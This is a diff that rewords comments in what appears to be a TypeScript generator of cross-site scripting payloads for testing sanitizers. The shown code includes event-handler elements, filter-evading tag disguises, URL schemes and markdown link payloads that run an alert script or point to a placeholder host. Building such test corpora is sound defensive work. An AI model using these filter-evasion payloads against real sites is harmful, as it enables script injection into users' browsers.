@@ -1,6 +1,6 @@
-/** Texts that run a script or send a request where a page takes them for its own markup. */
+/** Texts that run a script or send a request on a page that treats them as its own markup. */
 
-/** What each tries to run. */
+/** The script that each payload tries to run. */
 const RUN = "top.owned=1;alert(1)";
 const AWAY = "https://payload.invalid";
 
@@ -37,7 +37,7 @@ const ELEMENTS_WITH_EVENTS = [
   ["x", "tabindex=1 autofocus", "onfocusin"],
 ] as const;
 
-/** How the same tag is written so that a filter does not know it. */
+/** Ways to write the same tag so that a filter does not recognise it. */
 const DISGUISES: readonly ((tag: string, attributes: string, event: string) => string)[] = [
   (tag, attributes, event) => `<${tag} ${attributes} ${event}="${RUN}">`,
   (tag, attributes, event) => `<${tag.toUpperCase()}/${attributes}/${event}=${RUN}>`,
@@ -157,7 +157,7 @@ const SCHEMES = [
   "//payload.invalid/",
 ];
 
-/** How a markdown text names an address. */
+/** Ways to link to an address in markdown. */
 const LINKS: readonly ((address: string) => string)[] = [
   (address) => `[x](${address}${RUN})`,
   (address) => `[x](<${address}${RUN}>)`,
